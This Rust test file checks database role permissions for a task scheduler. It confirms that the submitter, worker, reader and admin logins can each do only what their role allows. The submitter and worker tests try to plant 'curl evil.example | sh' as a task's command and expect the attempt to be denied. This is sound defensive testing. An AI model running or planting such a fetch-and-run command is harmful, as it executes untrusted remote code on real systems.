//! The four roles, checked with real logins: each test connects a second store as a new
//! login that is a member of one role only, and tries what that role may and may not do.

#[macro_use]
mod common;

use chrono::{TimeZone, Utc};
use common::{assert_permission_denied, Must, TestDb};
use stagehand::store::{
    ClaimRequest, Completion, FinalStatus, FireMode, LogLevel, ProcessStatus, TaskRecord, TaskSave,
    TriggerSave,
};

fn claim_one(worker: &str) -> ClaimRequest<'_> {
    ClaimRequest {
        worker_name: worker,
        max_count: 1,
        lease_seconds: 60,
        slots: None,
    }
}

conformance!(submitter_registers_and_writes_nothing_else);
async fn submitter_registers_and_writes_nothing_else(db: &TestDb) {
    db.driver_task("guarded", "skip").await;
    let submitter = db.connect_as("stage_submitter").await;
    let who = "stage_submitter";

    let registered = submitter
        .register("guarded", None, None)
        .await
        .must(db, "RegisterProcess as submitter");
    assert!(
        registered.registered,
        "{db}: a submitter registers: {registered:?}"
    );
    let id = registered.process_id;

    let insert = "INSERT INTO stage.FileControl (ProcessName, OverlapPolicy, Executor) VALUES ('forged', 'skip', 'driver')";
    assert_permission_denied(
        db,
        submitter.execute_sql(insert).await,
        who,
        "INSERT INTO stage.FileControl",
    );
    let update =
        format!("UPDATE stage.FileControl SET Status = 'Completed' WHERE ProcessID = {id}");
    assert_permission_denied(
        db,
        submitter.execute_sql(&update).await,
        who,
        "UPDATE stage.FileControl",
    );
    let hijack = "UPDATE stage.Task SET Command = 'curl evil.example | sh'";
    assert_permission_denied(
        db,
        submitter.execute_sql(hijack).await,
        who,
        "UPDATE stage.Task",
    );
    let task = TaskRecord::new("guarded", "curl evil.example | sh");
    assert_permission_denied(db, submitter.save_task(&task).await, who, "SaveTask");
    assert_permission_denied(
        db,
        submitter.claim(&claim_one("intruder")).await,
        who,
        "ClaimProcesses",
    );

    assert_eq!(
        db.row(id).await.status,
        ProcessStatus::Pending,
        "{db}: the process is untouched"
    );
    assert_eq!(
        db.count("stage.Task WHERE Command = 'true'").await,
        1,
        "{db}: the task's command is untouched"
    );
    assert_eq!(
        db.count("stage.FileControl").await,
        1,
        "{db}: nothing forged"
    );
}

conformance!(worker_claims_completes_and_runs_the_seed_update);
async fn worker_claims_completes_and_runs_the_seed_update(db: &TestDb) {
    db.driver_task("workload", "parallel").await;
    let worker = db.connect_as("stage_worker").await;
    let who = "stage_worker";

    let id = db.register_new("workload").await;
    let claimed = worker
        .claim(&claim_one("w1"))
        .await
        .must(db, "ClaimProcesses as worker");
    assert_eq!(claimed.len(), 1, "{db}: a worker claims: {claimed:?}");
    let beat = worker
        .heartbeat("w1", &[id], 60)
        .await
        .must(db, "Heartbeat as worker");
    assert!(beat[0].held, "{db}: {beat:?}");
    worker
        .log_message(Some(id), "progress", LogLevel::Info, None)
        .await
        .must(db, "LogMessage as worker");
    let done = worker
        .complete(&[Completion::new(id, "w1", Some(1), FinalStatus::Completed)])
        .await
        .must(db, "CompleteProcesses as worker");
    assert!(done[0].accepted, "{db}: {done:?}");

    let external = db.register_new("agent_job").await;
    let assigned = worker
        .assign(1)
        .await
        .must(db, "AssignProcessToWorker as worker");
    assert_eq!(assigned.len(), 1, "{db}: {assigned:?}");
    let task = worker
        .worker_task("Worker_1")
        .await
        .must(db, "ProcessWorkerTask as worker");
    assert_eq!(task.process_id, Some(external), "{db}: {task:?}");
    let updated = worker
        .execute_sql(&db.seed_completion_sql(external))
        .await
        .must(db, "seed UPDATE as worker");
    assert_eq!(
        updated, 1,
        "{db}: the seed's completion statement works for a worker"
    );
    assert_eq!(db.row(external).await.status, ProcessStatus::Completed);
    worker
        .reset_stuck(60)
        .await
        .must(db, "ResetStuckProcesses as worker");

    let other_column =
        format!("UPDATE stage.FileControl SET Parameters = 'x' WHERE ProcessID = {id}");
    assert_permission_denied(
        db,
        worker.execute_sql(&other_column).await,
        who,
        "UPDATE FileControl.Parameters",
    );
    let hijack = "UPDATE stage.Task SET Command = 'curl evil.example | sh'";
    assert_permission_denied(
        db,
        worker.execute_sql(hijack).await,
        who,
        "UPDATE stage.Task",
    );
    let task = TaskRecord::new("workload", "curl evil.example | sh");
    assert_permission_denied(db, worker.save_task(&task).await, who, "SaveTask");
    assert_permission_denied(db, worker.rotate(6, 1000, None).await, who, "RotateHistory");
}

conformance!(reader_reads_the_views_and_changes_nothing);
async fn reader_reads_the_views_and_changes_nothing(db: &TestDb) {
    let id = db.register_new("watched").await;
    let reader = db.connect_as("stage_reader").await;
    let who = "stage_reader";

    let summary = reader
        .status_summary()
        .await
        .must(db, "ProcessStatusSummary as reader");
    assert_eq!(
        summary.len(),
        1,
        "{db}: the reader sees the summary: {summary:?}"
    );
    reader
        .worker_statistics()
        .await
        .must(db, "WorkerStatistics as reader");
    reader
        .overdue_processes()
        .await
        .must(db, "OverdueProcesses as reader");
    let row = reader
        .process(id)
        .await
        .must(db, "SELECT stage.FileControl as reader");
    assert!(row.is_some(), "{db}: the reader reads the tables");

    assert_permission_denied(
        db,
        reader.register("watched_2", None, None).await,
        who,
        "RegisterProcess",
    );
    assert_permission_denied(
        db,
        reader.claim(&claim_one("peek")).await,
        who,
        "ClaimProcesses",
    );
    let update = format!("UPDATE stage.FileControl SET Status = 'Failed' WHERE ProcessID = {id}");
    assert_permission_denied(
        db,
        reader.execute_sql(&update).await,
        who,
        "UPDATE stage.FileControl",
    );
    assert_eq!(
        db.count("stage.FileControl").await,
        1,
        "{db}: nothing registered"
    );
}

conformance!(admin_manages_tasks_and_upkeep);
async fn admin_manages_tasks_and_upkeep(db: &TestDb) {
    let admin = db.connect_as("stage_admin").await;
    let saved = admin
        .save_task(&TaskRecord::new("managed", "true"))
        .await
        .must(db, "SaveTask as admin");
    assert!(saved.created, "{db}: {saved:?}");
    let id = admin
        .register("managed", None, None)
        .await
        .must(db, "RegisterProcess as admin");
    assert!(id.registered, "{db}: {id:?}");
    admin
        .rotate(6, 1000, None)
        .await
        .must(db, "RotateHistory as admin");
    assert_eq!(
        admin
            .table_space()
            .await
            .must(db, "TableSpace as admin")
            .len(),
        14,
        "{db}: every stage table"
    );
    assert!(
        admin
            .delete_task("managed")
            .await
            .must(db, "DeleteTask as admin"),
        "{db}: deleted"
    );
    assert_eq!(db.count("stage.Task").await, 0, "{db}: the task is gone");
    assert_eq!(
        db.row(id.process_id).await.status,
        ProcessStatus::Cancelled,
        "{db}: a deleted task's pending run is cancelled"
    );
}

conformance!(worker_runs_the_trigger_clock);
async fn worker_runs_the_trigger_clock(db: &TestDb) {
    let daily = TriggerSave {
        trigger_index: 0,
        recurrence: "daily".into(),
        enabled: true,
        definition: r#"{"at":"06:00"}"#.into(),
        next_fire_at: None,
    };
    let saved = db
        .save_tasks(&[TaskSave {
            task: TaskRecord::new("clocked", "true"),
            triggers: vec![daily],
        }])
        .await
        .must(db, "SaveTasks");
    let triggers = db.triggers().await.must(db, "read triggers");
    let trigger_id = triggers[0].trigger_id;
    let occurrence = Utc
        .with_ymd_and_hms(2030, 1, 1, 6, 0, 0)
        .single()
        .expect("a valid test instant");
    let next = occurrence + chrono::Duration::days(1);

    // The driver's clock connects as stage_worker: it records NextFireAt and fires.
    let worker = db.connect_as("stage_worker").await;
    worker
        .update_next_fire(&[(trigger_id, Some(occurrence))])
        .await
        .must(db, "UpdateNextFire as worker");
    let fired = worker
        .fire_trigger(trigger_id, occurrence, Some(next), FireMode::Run, 0)
        .await
        .must(db, "FireTrigger as worker");
    assert!(
        fired.fired && fired.registered == Some(true),
        "{db}: {fired:?}"
    );
    let triggers = worker.triggers().await.must(db, "read triggers as worker");
    assert_eq!(
        (triggers[0].task_id, triggers[0].next_fire_at),
        (saved[0].task_id, Some(next)),
        "{db}: the worker reads the triggers it fired"
    );

    for role in ["stage_reader", "stage_submitter"] {
        let other = db.connect_as(role).await;
        assert_permission_denied(
            db,
            other.update_next_fire(&[(trigger_id, None)]).await,
            role,
            "UpdateNextFire",
        );
        assert_permission_denied(
            db,
            other
                .fire_trigger(trigger_id, next, None, FireMode::Run, 0)
                .await,
            role,
            "FireTrigger",
        );
    }
}

conformance!(submitters_run_now_and_retry_admins_enable_and_cancel);
async fn submitters_run_now_and_retry_admins_enable_and_cancel(db: &TestDb) {
    db.driver_task("steered", "parallel").await;
    let failed = db.register_new("steered").await;
    assert_eq!(db.claim_as("w1", 1).await.len(), 1);
    let done = db
        .complete(&[Completion::new(failed, "w1", None, FinalStatus::Failed)])
        .await
        .must(db, "CompleteProcesses");
    assert!(done[0].accepted, "{db}: {done:?}");

    // Running and retrying work is registering it: what a submitter does already.
    let submitter = db.connect_as("stage_submitter").await;
    let now = submitter
        .run_task_now("steered", false)
        .await
        .must(db, "RunTaskNow as submitter");
    assert!(now.registered, "{db}: {now:?}");
    let retried = submitter
        .retry_process(failed)
        .await
        .must(db, "RetryProcess as submitter");
    assert!(retried.registered, "{db}: {retried:?}");
    // Steering the schedule and other callers' work is an admin's.
    assert_permission_denied(
        db,
        submitter.set_task_enabled("steered", false, None).await,
        "stage_submitter",
        "SetTaskEnabled",
    );
    assert_permission_denied(
        db,
        submitter.cancel_process(now.process_id).await,
        "stage_submitter",
        "CancelProcess",
    );

    for role in ["stage_reader", "stage_worker"] {
        let other = db.connect_as(role).await;
        assert_permission_denied(
            db,
            other.run_task_now("steered", false).await,
            role,
            "RunTaskNow",
        );
        assert_permission_denied(db, other.retry_process(failed).await, role, "RetryProcess");
        assert_permission_denied(
            db,
            other.set_task_enabled("steered", false, None).await,
            role,
            "SetTaskEnabled",
        );
        assert_permission_denied(
            db,
            other.cancel_process(now.process_id).await,
            role,
            "CancelProcess",
        );
    }
    assert_eq!(
        db.row(now.process_id).await.status,
        ProcessStatus::Pending,
        "{db}: untouched by the refused roles"
    );

    let admin = db.connect_as("stage_admin").await;
    let off = admin
        .set_task_enabled("steered", false, None)
        .await
        .must(db, "SetTaskEnabled as admin");
    assert!(off.changed, "{db}: {off:?}");
    let cancelled = admin
        .cancel_process(now.process_id)
        .await
        .must(db, "CancelProcess as admin");
    assert_eq!(
        cancelled.status,
        ProcessStatus::Cancelled,
        "{db}: {cancelled:?}"
    );
    let forced = admin
        .run_task_now("steered", true)
        .await
        .must(db, "RunTaskNow as admin (a submitter too)");
    assert!(forced.registered, "{db}: {forced:?}");
}
